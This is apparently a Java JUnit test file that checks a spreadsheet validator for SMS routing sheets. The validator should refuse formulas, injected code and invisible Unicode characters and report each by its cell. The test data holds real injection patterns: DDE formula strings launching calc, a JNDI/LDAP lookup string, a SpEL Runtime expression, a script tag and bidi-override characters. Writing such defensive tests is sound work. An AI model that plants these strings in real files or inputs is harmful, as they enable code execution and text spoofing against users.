package isthmus.isf.book;

import static org.assertj.core.api.Assertions.assertThat;

import isthmus.isf.policy.PolicyHeading;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Code, formulas and invisible characters: refused with their place, never executed. */
class HostileSheetsTest {
  private static final String CODE = "true); System.exit(7); x(";
  private static final String GOOD = ",SMS\nText ok,Yes\n";

  /** Every cell that the catalogue knows: settings, headings, first columns, columns, comments. */
  static Stream<Arguments> everyCell() {
    List<Arguments> cells = new ArrayList<>();
    for (Catalogue.Sheet sheet : Catalogue.full().sheets()) {
      if (sheet.type().equals(SheetType.NOTES.word())) {
        continue;
      }
      for (Catalogue.Setting setting : sheet.settings()) {
        cells.add(cell(sheet, setting.name(), settings(sheet, setting), "B2"));
      }
      String setting = "Type:," + sheet.type() + "\n%s,x\n" + body(sheet);
      cells.add(cell(sheet, "a setting", setting, "A2", CODE + ":"));
      cells.add(cell(sheet, "a comment line", "# note\n%s\n" + body(sheet), "A2", "# " + CODE));
      cells.add(cell(sheet, "a heading", heading(sheet), "C2"));
      String corner = "Type:," + sheet.type() + "\n" + body(sheet).replaceFirst("^\\w*", "%s");
      cells.add(cell(sheet, "the first heading", corner, "A2"));
      for (Catalogue.Heading heading : sheet.headings()) {
        cells.add(column(sheet, heading));
      }
    }
    return cells.stream();
  }

  private static Arguments cell(Catalogue.Sheet sheet, String what, String csv, String place) {
    return cell(sheet, what, csv, place, CODE);
  }

  private static Arguments cell(
      Catalogue.Sheet sheet, String what, String csv, String place, String code) {
    String text = csv.replace("%s", '"' + code + '"');
    return Arguments.argumentSet(sheet.type() + ": " + what, sheet.type(), text, place, code);
  }

  private static String body(Catalogue.Sheet sheet) {
    return switch (SheetType.ofWord(sheet.type()).orElseThrow()) {
      case ROUTING -> ",SMS\nText ok,Yes\n";
      case POLICY -> "Rule,Forbid\nAll,sms\n";
      case LIST -> "Address\n+49*\n";
      case MAP -> "From,To\n110,112\n";
      case NOTES -> "";
    };
  }

  private static String settings(Catalogue.Sheet sheet, Catalogue.Setting setting) {
    String type = "Type:," + sheet.type() + "\n";
    return setting.name().equals("Type:")
        ? "Id:,any\nType:,%s\n" + body(sheet)
        : type + setting.name() + ",%s\n" + body(sheet);
  }

  private static String heading(Catalogue.Sheet sheet) {
    String[] lines = body(sheet).split("\n", -1);
    String comma = lines[0].contains(",") ? "," : ",Comment,";
    return "Type:," + sheet.type() + "\n" + lines[0] + comma + "%s\n" + lines[1] + "\n";
  }

  private static Arguments column(Catalogue.Sheet sheet, Catalogue.Heading heading) {
    String type = "Type:," + sheet.type() + "\n";
    String name = heading.heading();
    return switch (SheetType.ofWord(sheet.type()).orElseThrow()) {
      case ROUTING ->
          switch (heading.kind()) {
            case "label" -> cell(sheet, "label", type + ",SMS\n%s,Yes\n", "A3");
            case "service" -> cell(sheet, "entry", type + ",SMS\nText ok,%s\n", "B3");
            default -> cell(sheet, name, type + ",SMS," + name + "\nText ok,Yes,%s\n", "C3");
          };
      case POLICY ->
          heading.kind().equals("label")
              ? cell(sheet, "label", type + "Rule,Forbid\n%s,sms\n", "A3")
              : policy(sheet, heading);
      case LIST ->
          name.equals("Address")
              ? cell(sheet, name, type + "Address\n%s\n", "A3")
              : cell(sheet, name, type + "Address," + name + "\n+49*,%s\n", "B3");
      case MAP ->
          switch (name) {
            case "From" -> cell(sheet, name, type + "From,To\n%s,112\n", "A3");
            case "To" -> cell(sheet, name, type + "From,To\n110,%s\n", "B3");
            default -> cell(sheet, name, type + "From,To," + name + "\n110,112,%s\n", "C3");
          };
      case NOTES -> throw new AssertionError();
    };
  }

  private static Arguments policy(Catalogue.Sheet sheet, Catalogue.Heading heading) {
    String stage = heading.stages().isEmpty() ? "" : heading.stages().getLast();
    String type = "Type:,policy\n";
    if (heading.heading().equals("Stage")) {
      return cell(sheet, "Stage", type + "Rule,Reject,Stage\nAll,403,%s\n", "C3");
    }
    String other = heading.heading().equals("Reject") ? "Rewrite to" : "Reject";
    String entry = other.equals("Reject") ? "403" : "110";
    return cell(
        sheet,
        heading.heading(),
        type + "Rule,Stage," + heading.heading() + "," + other + "\nAll," + stage + ",%s," + entry,
        "C3");
  }

  @ParameterizedTest
  @MethodSource("everyCell")
  void codeIsRefusedWithItsPlaceInEveryCell(String type, String csv, String place, String code) {
    Worksheet hostile = Books.sheet("hostile", csv);
    assertThat(hostile.rows().stream().flatMap(List::stream)).anyMatch(cell -> cell.contains(CODE));
    Workbook workbook = new Workbook(List.of(Books.sheet("usual", GOOD), hostile));
    for (List<SheetProblem> problems :
        List.of(
            Books.problems(workbook),
            Books.problems("x.xlsx", WorkbookXlsx.write(workbook)),
            Books.problems(WorkbookJson.read(WorkbookJson.write(workbook))),
            type.equals("policy") || type.equals("list") || type.equals("map")
                ? Books.problems(workbook)
                : Books.problems("x.csv", csv.getBytes(StandardCharsets.UTF_8)))) {
      assertThat(problems).describedAs(Books.lines(problems).toString()).hasSize(1);
      assertThat(problems.getFirst().problem().place()).isEqualTo(place);
      assertThat(problems.getFirst().problem().cell()).contains(code.substring(0, 20));
    }
  }

  @Test
  void thereIsACaseForEveryHeadingAndSetting() {
    int headings = RoutingHeading.values().length + 2 + PolicyHeading.values().length + 1 + 2 + 3;
    int settings =
        Arrays.stream(SheetType.values())
            .filter(type -> type != SheetType.NOTES)
            .mapToInt(type -> type.settings().size() + 1)
            .sum();
    assertThat(everyCell().count()).isEqualTo(headings + settings + 4 * 4);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=cmd|'/C calc'!A0",
        "@SUM(A1:A9)",
        "+cmd|'/C calc'!A0",
        "-2+3+cmd|'/C calc'!A0",
        "=HYPERLINK(\"http://example.org\")",
        "\uFF1Dcmd|'/C calc'!A0",
        "\uFF0Bcmd|'/C calc'!A0",
        "${jndi:ldap://example.org/a}",
        "#{T(java.lang.Runtime)}",
        "java.lang.System.exit(7)",
        "<script>alert(1)</script>"
      })
  void whatAProgramWouldTakeForAFormulaOrCodeIsRefusedInFreeText(String text) {
    Worksheet sheet =
        new Worksheet(
            "routing", List.of(List.of("", "SMS", "Comment"), List.of("Text ok", "Yes", text)));
    List<SheetProblem> problems = Books.problems(new Workbook(List.of(sheet)));
    assertThat(problems).describedAs(Books.lines(problems).toString()).hasSize(1);
    assertThat(problems.getFirst().problem().place()).isEqualTo("C2");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "+49 only",
        "- see the ticket",
        "10 SMS: 1,530 characters; more costs",
        "(agreed in May); until June",
        "example.org (partner)",
        "a < b, b > c; 50 % of $",
        "עברית\u200f"
      })
  void wordsOfPeopleAreTakenInFreeText(String text) {
    Worksheet sheet =
        new Worksheet(
            "routing", List.of(List.of("", "SMS", "Comment"), List.of("Text ok", "Yes", text)));
    assertThat(Books.lines(Books.problems(new Workbook(List.of(sheet))))).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Yes\u200f",
        "\u202eYes",
        "Y\u0000es",
        "Yes\u0007",
        "Y\u200bes",
        "\uFEFFYes",
        "Ye\ns"
      })
  void charactersThatNobodySeesAreRefusedInTypedCells(String text) {
    Worksheet sheet =
        new Worksheet("routing", List.of(List.of("", "SMS"), List.of("Text ok", text)));
    List<SheetProblem> problems = Books.problems(new Workbook(List.of(sheet)));
    assertThat(problems).describedAs(Books.lines(problems).toString()).hasSize(1);
    assertThat(problems.getFirst().problem().place()).isEqualTo("B2");
  }

  /** Left-to-right override, spaces of no width, a tag, a filler, a blank of braille. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "\u202e",
        "\u200b",
        "\u200d",
        "\ufeff",
        "\u00ad",
        "\udb40\udc41",
        "\u3164",
        "\u2800"
      })
  void charactersThatNobodySeesAreRefusedInNamesAndToldByTheirNumber(String unseen) {
    String name = "Go" + unseen + "ld";
    String number = "<U+%04X>".formatted(unseen.codePointAt(0));
    assertThat(SheetName.wrong(name)).isPresent();
    List<String> head = List.of("", "SMS");
    List<String> row = List.of("Text ok", "Yes");
    for (List<List<String>> rows :
        List.of(
            List.of(List.of("Name:", name), head, row),
            List.of(List.of("Id:", name), head, row),
            List.of(List.of("Strategy:", "weights" + unseen), head, row),
            List.of(List.of("", "SMS" + unseen), row),
            List.of(head, List.of("Text" + unseen + " ok", "Yes")),
            List.of(List.of("", "SMS", "Id"), List.of("Text ok", "Yes", "go" + unseen + "ld")))) {
      List<SheetProblem> problems =
          Books.problems(new Workbook(List.of(new Worksheet("routing", rows))));
      assertThat(problems).describedAs(Books.lines(problems).toString()).hasSize(1);
      assertThat(problems.getFirst().line()).contains(number);
    }
    Worksheet policy =
        new Worksheet(
            "policy",
            List.of(List.of("Type:", "policy"), List.of("Rule", "Forbid"), List.of(name, "sms")));
    Worksheet routing = new Worksheet("routing", List.of(head, row));
    assertThat(Books.problems(new Workbook(List.of(routing, policy))))
        .singleElement()
        .satisfies(problem -> assertThat(problem.line()).contains(number));
  }

  /** Joiners make the letters of some scripts; marks of direction turn nothing around. */
  @ParameterizedTest
  @ValueSource(strings = {"می\u200cخواهم", "עברית\u200f, SMS", "👩\u200d💻 agreed"})
  void commentsTakeWhatScriptsNeed(String text) {
    Worksheet sheet =
        new Worksheet(
            "routing", List.of(List.of("", "SMS", "Comment"), List.of("Text ok", "Yes", text)));
    assertThat(Books.lines(Books.problems(new Workbook(List.of(sheet))))).isEmpty();
  }
}
